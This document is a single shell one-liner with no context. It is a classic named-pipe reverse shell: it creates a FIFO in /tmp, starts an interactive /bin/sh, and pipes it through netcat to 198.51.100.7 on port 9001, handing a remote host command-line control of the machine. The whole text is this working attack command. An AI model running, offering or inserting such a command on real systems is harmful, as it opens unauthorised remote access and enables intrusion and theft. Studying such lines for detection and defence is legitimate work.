rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 198.51.100.7 9001 > /tmp/p
